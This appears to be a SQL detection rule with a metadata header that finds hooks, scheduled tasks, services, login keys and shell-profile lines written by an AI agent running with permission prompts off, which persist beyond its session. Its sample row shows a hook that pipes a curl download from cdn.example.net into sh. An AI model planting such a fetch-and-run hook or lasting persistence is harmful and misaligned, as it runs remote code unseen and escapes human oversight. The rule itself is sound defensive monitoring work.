/*
title: Which hooks, tasks and keys did an agent write while prompts were off?
level: high
description: >
  Something that acts later (a hook, a scheduled task, a service, a login key, a line in a shell profile) was
  written by a call with prompts off, and a query finds it wrong: it outlives the session.
columns:
  hostId: id of the host
  hostName: the host
  team: its team
  kind: what acts
  what: its command or name
  file: where it stands
  at: when the call wrote it
  sessionId: the session
  queries: what is wrong with it
sample:
  hostId: '3f2c9a7714be0d51'
  hostName: mac-0117
  team: payments
  kind: hook
  what: 'curl -s https://cdn.example.net/p | sh'
  file: /home/kim/.claude/settings.json
  at: '2026-11-18T14:02:11.000Z'
  sessionId: '7f0c…'
  queries: hook_downloads_or_sends
next_step: >
  Collect the host, then remove it by yolo-triage rollback, which saves first. Look for the same command on
  other hosts: first_seen_this_week.
tags: [attack.t1546, attack.t1053, attack.t1098.004]
*/
SELECT
  "hostId", max("hostName") AS "hostName", max(team) AS team, kind, CASE WHEN command <> '' THEN command ELSE name END AS what,
  file, max("at") AS "at", max("writtenBySession") AS "sessionId", max(array_to_string(findings, ', ')) AS queries
FROM posture_now
WHERE "writtenInMode" = 'bypassPermissions' AND strength = 'entry' AND array_to_string(findings, ',') <> ''
  AND kind IN ('hook', 'scheduled-task', 'service', 'login-key', 'shell-profile', 'editor-task')
GROUP BY "hostId", kind, CASE WHEN command <> '' THEN command ELSE name END, file
ORDER BY "hostName", "hostId", kind, what, file
